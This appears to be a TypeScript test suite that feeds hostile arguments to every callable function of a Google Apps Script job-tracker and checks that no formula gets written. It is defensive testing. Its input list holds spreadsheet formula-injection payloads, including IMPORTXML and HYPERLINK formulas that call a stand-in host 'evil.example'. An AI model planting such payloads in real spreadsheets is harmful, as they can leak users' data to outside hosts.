// Hostile input through google.script.run: every global of the bundle (each export of src/main.ts
// is callable from any browser) gets wrong types, missing fields, NaN, row 0, negative and huge row
// numbers, a 1 MB string and text starting with =, +, -, @ at every argument. Each call ends in a
// clear sentence with nothing written, or in valid work — and never writes a formula.
import type { LoadedBundle } from '../helpers/bundle';
import {
  anyOf,
  captureState,
  loadState,
  mayStamp,
  mayWrite,
  RAW_TEXT,
  settingRow,
  stateDiff,
  type TrackerState,
  userCellChanges,
} from '../helpers/faults';
import { ROW, representativeTracker } from '../helpers/trackers';

const tracker = representativeTracker();
const base: TrackerState = captureState(tracker);
const kim = tracker.call<{ fingerprint: string }>('sidebarDraft', ROW.kim, 'first-inmail').fingerprint;

const MEGABYTE = 'x'.repeat(1024 * 1024);

/** What google.script.run can carry (primitives, arrays, plain objects), at their most hostile. */
const HOSTILE: readonly [string, unknown][] = [
  ['nothing', undefined],
  ['null', null],
  ['NaN', Number.NaN],
  ['Infinity', Number.POSITIVE_INFINITY],
  ['row 0', 0],
  ['row 1 (the header)', 1],
  ['a negative row', -3],
  ['a fraction', 2.5],
  ['a huge row', 2 ** 53],
  ['a row past the data', 999],
  ['a number as text', '13'],
  ['true', true],
  ['an empty string', ''],
  ['a 1 MB string', MEGABYTE],
  ['a formula', '=IMPORTXML("http://evil.example","//a")'],
  ['+ text', '+1-2'],
  ['- text', '-cmd'],
  ['@ text', '@SUM(A1:A9)'],
  ['a tab and =', '\t=1+1'],
  ['an object', { row: 13, toString: 'x' }],
  ['an array', [13]],
  ['nested arrays', [[['=1']]]],
];

/** Every formula in a state, as `Sheet!A1`. */
function formulas(s: TrackerState): string[] {
  return s.workbook.sheets.flatMap((sh) =>
    Object.entries(sh.cells)
      .filter(([, c]) => c.formula !== undefined)
      .map(([a1]) => `${sh.name}!${a1}`),
  );
}

/** The functions pages call, their valid arguments, and what a valid call may write. */
const PAGE_CALLS: Record<string, { args: unknown[]; may?: Parameters<typeof userCellChanges>[2]['may'] }> = {
  sidebarSelection: { args: [] },
  sidebarDraft: { args: [ROW.kim, 'first-inmail', 'English'] },
  sidebarMarkSent: {
    args: [ROW.kim, 'first-inmail', kim, false],
    may: anyOf(
      mayStamp,
      mayWrite('Contacts', ROW.kim, ['Status']),
      mayWrite('Settings', settingRow(base, 'InMail credits left'), ['Value']),
    ),
  },
  sidebarSaveCallGuide: {
    args: [ROW.di, 'Form on the intranet', 'After referral'],
    may: mayWrite('Jobs', 2, ['Referral process', 'Apply']),
  },
  importConnections: {
    args: [
      'First Name,Last Name,URL,Email Address,Company,Position,Connected On\nLea,Long,https://www.linkedin.com/in/lea,,Acme,Data Scientist,01 Mar 2026\n',
    ],
    may: (c) => c.sheet === 'Contacts' && c.row > 13,
  },
};

/** Functions that take no argument from a page: hostile arguments must be ignored. */
const MENU = [
  'menuSetUpTracker',
  'menuLoadExampleData',
  'menuHelp',
  'menuCheckSpreadsheet',
  'menuRefreshFollowUps',
  'menuTurnOnReminders',
  'menuTurnOffReminders',
  'menuScoreCandidates',
  'menuDraftMessage',
  'menuRefreshDashboard',
  'menuImportConnections',
  'menuShareWithMentor',
];

/** Trigger handlers: they take an event, and must never throw at the user whatever it holds. */
const HANDLERS = ['onOpen', 'onInstall', 'onEdit', 'dailyReminder'];

interface Outcome {
  state: TrackerState;
  thrown: string | null;
  shown: string[];
}

function callOn(state: TrackerState, name: string, args: unknown[]): Outcome {
  const b: LoadedBundle = loadState(state);
  let thrown: string | null = null;
  try {
    b.call(name, ...args);
  } catch (e) {
    thrown = String((e as Error)?.message ?? e);
  }
  b.emu.endExecution();
  return {
    state: captureState(b),
    thrown,
    shown: [...b.emu.ui.dialogs.map((d) => d.prompt), ...b.emu.spreadsheet.toasts.map((t) => t.message)],
  };
}

describe("the bundle's globals", () => {
  it('are exactly the page calls, menu items and trigger handlers tested here', () => {
    expect(tracker.functions().sort()).toEqual([...Object.keys(PAGE_CALLS), ...MENU, ...HANDLERS].sort());
  });
});

describe.each(Object.entries(PAGE_CALLS))('%s through google.script.run', (name, { args, may }) => {
  const valid = callOn(base, name, args);

  it('works with valid arguments and writes no formula', () => {
    expect(valid.thrown).toBeNull();
    expect(formulas(valid.state)).toEqual(formulas(base));
    expect(userCellChanges(base, valid.state, { ...(may ? { may } : {}) })).toEqual([]);
  });

  if (args.length === 0) {
    it('ignores arguments it does not take', () => {
      const r = callOn(
        base,
        name,
        HOSTILE.map(([, v]) => v),
      );
      expect(r.thrown).toBe(valid.thrown);
      expect(stateDiff(valid.state, r.state)).toEqual([]);
    });
    return;
  }
  const cases = args.flatMap((_, i) => HOSTILE.map(([label, v]) => [i + 1, label, v] as const));
  it.each(cases)(
    'argument %i as %s: a clear sentence and nothing written, or valid work',
    (position, _label, v) => {
      const hostile = [...args];
      hostile[position - 1] = v;
      const r = callOn(base, name, hostile);
      expect(formulas(r.state)).toEqual(formulas(base));
      for (const m of [...r.shown, ...(r.thrown === null ? [] : [r.thrown])]) {
        expect(m).not.toMatch(RAW_TEXT);
        expect(m.length).toBeLessThan(400);
        expect(m).toMatch(/[.!?]$/);
      }
      if (r.thrown !== null) expect(stateDiff(base, r.state)).toEqual([]);
      else expect(userCellChanges(base, r.state, { ...(may ? { may } : {}) })).toEqual([]);
    },
  );
});

describe('menu items called through google.script.run with arguments', () => {
  it.each(MENU)('%s ignores them: the same state as without', (name) => {
    const plain = callOn(base, name, []);
    const hostile = callOn(base, name, [
      '=HYPERLINK("http://evil.example")',
      { row: 0 },
      Number.NaN,
      MEGABYTE,
    ]);
    expect(stateDiff(plain.state, hostile.state)).toEqual([]);
    expect(hostile.thrown).toBe(plain.thrown);
  });
});

const EVENTS: readonly [string, unknown][] = [
  ['no event', undefined],
  ['null', null],
  ['a number', 42],
  ['text', '=evil()'],
  ['an empty object', {}],
  ['a range that is text', { range: 'A1', value: '=1+1' }],
  ['a range that is an empty object', { range: {} }],
  ['a huge value', { value: MEGABYTE, oldValue: MEGABYTE }],
  ['an authMode that is an object', { authMode: {} }],
  ['a trigger id that is an object', { triggerUid: { toString: null } }],
];

describe.each(HANDLERS)('%s with a hostile event', (name) => {
  const plain = callOn(base, name, name === 'onEdit' ? [{}] : []);
  it.each(EVENTS)(
    '%s: never throws, says nothing raw, changes nothing more than a run without it',
    (_label, e) => {
      const r = callOn(base, name, [e]);
      expect(r.thrown).toBeNull();
      for (const m of r.shown) expect(m).not.toMatch(RAW_TEXT);
      expect(formulas(r.state)).toEqual(formulas(base));
      expect(stateDiff(plain.state, r.state)).toEqual([]);
    },
  );
});
